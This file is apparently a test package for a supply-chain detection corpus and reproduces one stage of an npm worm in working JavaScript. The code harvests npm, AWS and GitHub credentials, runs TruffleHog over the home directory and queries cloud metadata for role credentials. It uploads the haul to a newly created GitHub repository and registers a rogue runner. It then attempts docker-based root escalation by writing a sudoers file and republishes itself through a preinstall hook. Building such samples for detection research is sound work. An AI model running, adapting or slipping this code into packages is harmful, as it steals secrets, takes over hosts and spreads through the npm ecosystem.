'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus): the worm's stage, see
// setup_bun.js. In order: gather credentials (environment, ~/.npmrc, AWS
// files); fetch TruffleHog into ~/.truffler-cache and run it over HOME; ask
// the cloud metadata service for role credentials; create a GitHub
// repository described "Sha1-Hulud: The Second Coming." and upload the haul
// (base64 twice); register the machine as a self-hosted GitHub runner named
// SHA1HULUD; try root through docker (a privileged container with the
// host's / mounted writes a sudoers file) and the docker socket; then, as
// the npm user, republish a package with this stage in it. Every host is
// answered by the sandbox's sinks. Exits 0 whatever fails, after 10 s at the
// latest.
const { spawnSync } = require('child_process');
const fs = require('fs');
const http = require('http');
const https = require('https');
const net = require('net');
const os = require('os');
const path = require('path');

const say = (msg) => console.log(`mal-shai-hulud-worm: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 10 s'); process.exit(0); }, 10000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

const home = os.homedir();
const read = (p) => { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return ''; } };
const b64 = (s) => Buffer.from(s).toString('base64');

function get(mod, url, headers = {}) {
  return new Promise((resolve) => {
    const req = mod.get(url, { headers, timeout: 2000 }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(chunks) }));
    });
    req.on('error', (e) => resolve({ status: errText(e), body: Buffer.alloc(0) }));
    req.on('timeout', () => req.destroy(new Error('timeout')));
  });
}

function github(method, urlPath, token, body) {
  return new Promise((resolve) => {
    const data = JSON.stringify(body);
    const req = https.request({
      hostname: 'api.github.com', port: 443, path: urlPath, method, timeout: 2000,
      headers: {
        Authorization: `token ${token}`, 'User-Agent': 'node', 'Content-Type': 'application/json',
        'Content-Length': Buffer.byteLength(data),
      },
    }, (res) => { res.resume(); res.on('end', () => resolve(res.statusCode)); });
    req.on('error', (e) => resolve(errText(e)));
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.end(data);
  });
}

(async () => {
  const npmrc = read(path.join(home, '.npmrc'));
  const npmToken = (npmrc.match(/_authToken=(\S+)/) || [])[1] || process.env.NPM_TOKEN || '';
  const aws = read(path.join(home, '.aws', 'credentials'));
  const ghToken = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || '';
  say(`step 3 npm token ${npmToken ? 'found' : 'missing'}, aws ${aws ? 'found' : 'missing'}, github ${ghToken ? 'found' : 'missing'}`);

  const cache = path.join(home, '.truffler-cache');
  fs.mkdirSync(cache, { recursive: true });
  const th = await get(https, 'https://github.com/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog_3.90.6_linux_amd64.tar.gz');
  const bin = path.join(cache, 'trufflehog');
  fs.writeFileSync(bin, th.body);
  fs.chmodSync(bin, 0o755);
  const scan = spawnSync(bin, ['filesystem', home, '--json', '--no-update'], { encoding: 'utf8', timeout: 2000 });
  say(`step 4 trufflehog (${th.status}, ${th.body.length} bytes): ${scan.error ? errText(scan.error) : `exit ${scan.status}`}`);

  const imds = await get(http, 'http://169.254.169.254/latest/meta-data/iam/security-credentials/');
  say(`step 5 cloud metadata: ${imds.status}`);

  const token = ghToken || npmToken;
  const repo = `pkgtrace-test-${Math.random().toString(36).slice(2, 10)}`;
  const made = await github('POST', '/user/repos', token, { name: repo, description: 'Sha1-Hulud: The Second Coming.' });
  const haul = b64(b64(JSON.stringify({ env: process.env, npmrc, aws, imds: imds.body.toString('latin1') })));
  const put = await github('PUT', `/repos/pkgtrace-test/${repo}/contents/contents.json`, token, { message: 'add', content: haul });
  say(`step 6 github repository: ${made}, contents.json: ${put}`);

  const runnerDir = path.join(home, '.dev-env');
  fs.mkdirSync(runnerDir, { recursive: true });
  const config = path.join(runnerDir, 'config.sh');
  fs.writeFileSync(config, '#!/bin/sh\necho "runner $*"\n');
  fs.chmodSync(config, 0o755);
  const reg = spawnSync(config, ['--url', `https://github.com/pkgtrace-test/${repo}`, '--unattended', '--token', 'pkgtrace-test', '--name', 'SHA1HULUD'], { encoding: 'utf8', timeout: 2000 });
  say(`step 7 runner: ${reg.error ? errText(reg.error) : reg.stdout.trim()}`);

  const docker = spawnSync('docker', ['run', '--rm', '--privileged', '-v', '/:/host', 'ubuntu', 'bash', '-c',
    'cp /host/tmp/runner /host/etc/sudoers.d/runner'], { encoding: 'utf8', timeout: 2000 });
  const sock = await new Promise((resolve) => {
    const c = net.connect('/var/run/docker.sock');
    c.on('connect', () => { c.end('GET /containers/json HTTP/1.0\r\n\r\n'); resolve('connected'); });
    c.on('error', (e) => resolve(errText(e)));
  });
  say(`step 8 docker: ${docker.error ? errText(docker.error) : `exit ${docker.status}`}, docker.sock: ${sock}`);

  const who = spawnSync('npm', ['whoami'], { encoding: 'utf8', timeout: 3000 });
  const copy = fs.mkdtempSync(path.join(os.tmpdir(), 'worm-'));
  fs.writeFileSync(path.join(copy, 'package.json'), JSON.stringify({
    name: 'pkgtrace-test-worm-victim', version: '1.0.1', scripts: { preinstall: 'node setup_bun.js' },
  }));
  for (const f of ['setup_bun.js', 'bun_environment.js']) fs.copyFileSync(path.join(__dirname, f), path.join(copy, f));
  const pub = spawnSync('npm', ['publish', copy], { encoding: 'utf8', timeout: 3000 });
  say(`step 9 npm whoami: ${who.error ? errText(who.error) : `exit ${who.status}`}, npm publish: ${pub.error ? errText(pub.error) : `exit ${pub.status}`}`);
  process.exit(0);
})();
